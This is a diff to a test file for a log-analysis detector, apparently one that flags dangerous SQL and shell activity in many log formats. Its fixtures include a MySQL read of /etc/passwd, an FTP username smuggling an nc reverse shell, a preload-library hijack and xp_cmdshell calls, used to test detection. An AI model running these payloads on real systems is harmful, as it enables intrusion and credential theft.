@@ -1,6 +1,7 @@
 """A command or a request in the log of an application that nobody knows is judged as in the best-known one: by what its members are called."""
 import json
 import time
+from xml.sax.saxutils import escape
 
 import pytest
 
@@ -56,6 +57,9 @@ STATEMENT = "SELECT load_file('/etc/passwd')"
 STATEMENTS = {
     "a statement": json.dumps({"ts": 1, "db": "shop", "user": "web", "statement": STATEMENT}), "a query": json.dumps({"time": 1, "query": STATEMENT, "host": "db1"}),
     "a pair": f'ts=1 user=web db=shop sql="{STATEMENT}" rows=1', "said": f"2026-11-27 10:11:12.345 WARN [pool] Slow query (2103 ms): {STATEMENT}",
+    "XML": f"<log><time>1</time><db>shop</db><sql>{escape(STATEMENT)}</sql></log>", "a duration": f"2026-11-27T10:11:12Z INFO a.b.Pool - duration: 3.281 ms  statement: {STATEMENT}", "no host": f"2026-11-27T10:11:12Z Executing SQL: {STATEMENT}",
+    "a time it took": f"[pool-7] query took 12 ms, rows=7: {STATEMENT}", "cells with semicolons": f"2026-11-27 10:11:12;db1;ann;{STATEMENT};0", "cells with commas": f'2026-11-27 10:11:12,db1,ann,"{STATEMENT}",0',
+    "one deeper": json.dumps({"at": 1, "call": {"query": STATEMENT, "rows": 1}}), "words beside comparisons": f"2026-11-27 10:11:12 INFO dao - Executing SQL: {STATEMENT} FROM a WHERE x='1' AND y='2' AND z='3'",
     "a logger": f"2026-11-27 10:11:12.345 DEBUG 1 --- [exec-1] org.hibernate.SQL : {STATEMENT}", "a syslog header": f"Nov 27 10:11:12 app1 shop[7]: slow query: {STATEMENT}",
 }
 REQUESTS = {
@@ -96,8 +100,18 @@ def test_rules_find_a_statement_by_what_its_member_or_the_words_before_it_say(fo
     assert "MySQL told to read a file of the system" in titles(STATEMENTS[form])
 
 
+@pytest.mark.parametrize("statement", [
+    "ANALYZE orders", "REFRESH MATERIALIZED VIEW mv_orders", "set global general_log = 0", "DROP AUDIT POLICY p7", "truncate audit.logged_actions", "UPDATE orders o SET state = 3", "SET ROLE postgres", "EXEC ('xp_cmdshell') AT [db7]",
+    "CREATE EVENT e1 ON SCHEDULE EVERY 5 MINUTE DO SELECT 1", "EXPLAIN SELECT a FROM b", "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'j'); END;", "SHOW GRANTS", "BACKUP LOG [hr] TO DISK = 'x'",
+])
+def test_statements_are_known_by_how_they_begin(statement):
+    for text in (json.dumps({"sql": statement}), f"INFO dao - Executing SQL: {statement}"):
+        assert read_facts(text).fields["held.statement"] == statement
+
+
 @pytest.mark.parametrize("event", [
-    {"statement": "We select the best from all"}, {"query": "select.example.com"}, {"text": "select a colour from the list", "event": "note"}, {"query": "query Orders { orders { id } }"},
+    {"statement": "We select the best from all"}, {"query": "select.example.com"}, {"text": "select a colour from the list", "event": "note"}, {"query": "query Orders { orders { id } }"}, {"query": "analyze my orders"}, {"query": "set volume to 3"}, {"query": "show me shoes"},
+    {"query": "explain this"}, {"statement": "update your profile first"}, {"query": "execute order 66"}, {"call": {"query": "flush toilets"}},
 ])
 def test_words_that_begin_as_a_statement_does_are_none(event):
     assert "held.statement" not in read_facts(json.dumps(event)).fields
@@ -118,7 +132,7 @@ def test_what_somebody_gave_is_no_command_that_was_run(text):
     "2026-11-27 10:11:12 ERROR docker daemon is not running", "2026-11-27 10:11:12 INFO Started python worker 7 of 9", "2026-11-27 10:11:12 [INFO] nmap scan of 192.0.2.0/24 by ann",
     "Jan 14 11:01:19 web7 ftp[4]: FTP session opened. USER a;nc 192.0.2.7 31337 -e /bin/sh", "2026-11-27 10:11:12,345 WARN [x] a.b.Reach: /etc/ld.so.preload changed to /usr/local/lib/x.so",
     "2026-11-27 10:11:12;INFO;find customer by id;3", "2026-11-27 10:11:12|INFO|git push rejected by remote|3", "2026-11-27 10:11:12|INFO|copy /srv/a to /srv/b|3",
-    "2026-11-27 10:11:12 INFO: Read-Only mode on", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|COPY tickets TO PROGRAM 'gzip > /srv/a.gz'|3", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
+    "2026-11-27 10:11:12 INFO: Read-Only mode on", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|SELECT a colour|3", "2026-11-27 10:11:12;x;Drop table tennis;3", "2026-11-27 10:11:12 INFO ann searched query: SELECT * FROM a", "2026-11-27 10:11:12 ann wrote in ticket 7: query: SELECT * FROM a", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
     "Nov 27 10:11:12 gw7 box: src=192.0.2.7 url=https://shop.example/a?b=c action=allowed",
 ])
 def test_words_of_a_line_that_name_a_program_or_a_page_are_no_act(line):
